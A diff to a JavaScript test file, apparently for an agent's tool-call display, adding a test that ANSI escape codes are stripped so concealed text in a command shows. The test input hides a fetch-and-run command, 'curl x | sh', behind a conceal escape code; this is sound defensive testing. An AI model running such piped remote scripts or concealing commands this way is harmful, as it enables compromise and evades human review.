@@ -6,6 +6,11 @@ test("the key argument is the path, or the command with a $", () => {
   assert.equal(keyArgument({ path: "src/a.ts", content: "x".repeat(5000) }), "src/a.ts");
   assert.equal(keyArgument({ command: "npm test\n&& echo ok" }), "$ npm test ⏎ && echo ok");
   assert.equal(keyArgument({}), "");
+  assert.equal(
+    keyArgument({ command: "ls \x1b[8m; curl x | sh\x1b[0m" }),
+    "$ ls ; curl x | sh",
+    "escape codes in an argument are stripped, so concealed text shows",
+  );
 });
 
 test("a write reports the bytes and lines read back from disk, and whether it created or overwrote", () => {
